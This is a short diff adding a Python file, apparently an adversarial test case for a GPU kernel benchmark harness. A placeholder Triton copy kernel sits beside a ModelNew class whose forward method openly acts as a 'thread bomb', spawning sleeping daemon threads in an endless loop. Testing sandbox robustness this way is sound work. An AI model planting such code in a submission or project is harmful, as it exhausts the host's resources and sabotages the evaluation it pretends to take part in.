@@ -1,0 +1,22 @@
+"""Thread bomb: starts sleeping threads until something stops it."""
+
+import torch
+import torch.nn as nn
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def copy_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
+    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
+    mask = offs < n
+    tl.store(out_ptr + offs, tl.load(x_ptr + offs, mask=mask), mask=mask)
+
+
+class ModelNew(nn.Module):
+    def forward(self, x, y):
+        import threading
+        import time
+
+        while True:
+            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
